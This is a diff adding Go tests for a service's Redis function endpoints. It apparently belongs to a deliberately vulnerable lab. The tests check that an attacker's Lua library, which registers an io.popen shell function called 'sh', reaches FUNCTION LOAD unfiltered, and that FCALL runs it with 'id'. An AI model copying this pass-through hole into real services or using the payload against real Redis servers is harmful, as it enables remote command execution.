@@ -0,0 +1,64 @@
+package main
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+)
+
+// TestFunctionLoad_ForwardsLibraryVerbatim is the Functions twin of
+// TestCacheEval_AttackerScriptReachesRedis: a library carrying the
+// sandbox escape MUST reach FUNCTION LOAD REPLACE untouched, or the
+// persistence variant of the chain has nothing to persist.
+func TestFunctionLoad_ForwardsLibraryVerbatim(t *testing.T) {
+	rd := &stubRedis{reply: respValue{Kind: respBulk, Str: "chainlib"}}
+	srv := newServer(nil, rd)
+
+	lib := "#!lua name=chainlib\n" +
+		"redis.register_function('sh', function(keys, args) " +
+		"return io.popen(args[1]):read('*a') end)"
+	body, _ := json.Marshal(map[string]any{"code": lib})
+	req := httptest.NewRequest(http.MethodPost, "/api/cache/function/load", strings.NewReader(string(body)))
+	rec := httptest.NewRecorder()
+	srv.ServeHTTP(rec, req)
+
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want 200; body=%q", rec.Code, rec.Body.String())
+	}
+	want := []string{"FUNCTION", "LOAD", "REPLACE", lib}
+	if strings.Join(rd.lastCmd, "\x00") != strings.Join(want, "\x00") {
+		t.Errorf("redis got %q, want %q", rd.lastCmd, want)
+	}
+}
+
+func TestFcall_BuildsCommand(t *testing.T) {
+	cases := []struct {
+		body string
+		want string
+	}{
+		{`{"function":"sh","args":["id"]}`, "FCALL sh 0 id"},
+		{`{"function":"get","keys":["a","b"],"args":["x"],"readonly":true}`, "FCALL_RO get 2 a b x"},
+	}
+	for _, tc := range cases {
+		rd := &stubRedis{}
+		srv := newServer(nil, rd)
+		req := httptest.NewRequest(http.MethodPost, "/api/cache/fcall", strings.NewReader(tc.body))
+		rec := httptest.NewRecorder()
+		srv.ServeHTTP(rec, req)
+		if got := strings.Join(rd.lastCmd, " "); got != tc.want {
+			t.Errorf("%s → redis got %q, want %q", tc.body, got, tc.want)
+		}
+	}
+}
+
+func TestFcall_RejectsMissingFunction(t *testing.T) {
+	srv := newServer(nil, &stubRedis{})
+	req := httptest.NewRequest(http.MethodPost, "/api/cache/fcall", strings.NewReader(`{}`))
+	rec := httptest.NewRecorder()
+	srv.ServeHTTP(rec, req)
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("missing function = %d, want 400", rec.Code)
+	}
+}